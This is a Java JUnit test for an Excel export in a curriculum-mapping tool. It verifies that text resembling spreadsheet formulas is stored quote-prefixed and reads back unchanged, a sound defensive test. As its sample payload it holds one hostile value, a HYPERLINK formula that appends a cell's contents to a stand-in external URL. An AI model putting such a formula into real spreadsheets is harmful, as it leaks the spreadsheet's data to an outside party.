// SPDX-License-Identifier: EPL-2.0
package org.curriculum.excel.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.curriculum.core.coverage.GridOrientation;
import org.curriculum.excel.GridImporter;
import org.curriculum.excel.MappingWorkbookWriter;
import org.curriculum.model.MappingLink;
import org.curriculum.model.MappingSet;
import org.curriculum.model.Standard;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Text that looks like a formula is written as quoted text, never as a formula, and reads back unchanged. */
class FormulaInjectionTest {

    @TempDir
    Path folder;

    @Test
    void formulaLookingTextIsWrittenAsTextAndReadBackUnchanged() throws Exception {
        MappingSet mapping = ExcelFixtures.loadAnnexeB(folder);
        MappingLink link = mapping.getLinks().get(0);
        Standard standard = (Standard) link.getStandard();
        String hostile = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")";
        standard.setTitle(hostile);
        link.setRationale("+SUM(1,2)");
        link.setAuthor("@reviewer");
        mapping.setKey("-1+1 means nothing");

        byte[] bytes = ExcelFixtures.bytes(out -> MappingWorkbookWriter.writeGrid(mapping, out, GridOrientation.STANDARDS_IN_ROWS));
        int quoted = 0;
        try (XSSFWorkbook workbook = ExcelFixtures.read(bytes)) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertNotEquals(CellType.FORMULA, cell.getCellType(), sheet.getSheetName() + " " + cell.getAddress());
                        if (cell.getCellType() == CellType.STRING) {
                            String text = cell.getStringCellValue();
                            boolean risky = !text.isEmpty() && "=+-@".indexOf(text.charAt(0)) >= 0;
                            assertEquals(risky, cell.getCellStyle().getQuotePrefixed(), sheet.getSheetName() + " "
                                    + cell.getAddress() + " " + text);
                            if (risky) {
                                quoted++;
                            }
                        }
                    }
                }
            }
            Sheet grid = workbook.getSheet("Coverage grid");
            assertEquals(hostile, grid.getRow(12).getCell(2).getStringCellValue());
        }
        // title in the grid and the Links sheet, rationale, author, key in the grid and the legend
        assertEquals(6, quoted);

        Path file = ExcelFixtures.write(folder.resolve("hostile.xlsx"), bytes);
        MappingSet imported = GridImporter.importGrid(file, mapping.eResource().getResourceSet()).root();
        MappingLink back = imported.getLinks().stream().filter(l -> l.getRationale() != null).findFirst().orElseThrow();
        assertEquals("+SUM(1,2)", back.getRationale());
        assertEquals("@reviewer", back.getAuthor());
        assertEquals("-1+1 means nothing", imported.getKey());
        assertFalse(imported.getKey().isEmpty());
        assertTrue(imported.getLinks().size() == 70);
    }
}
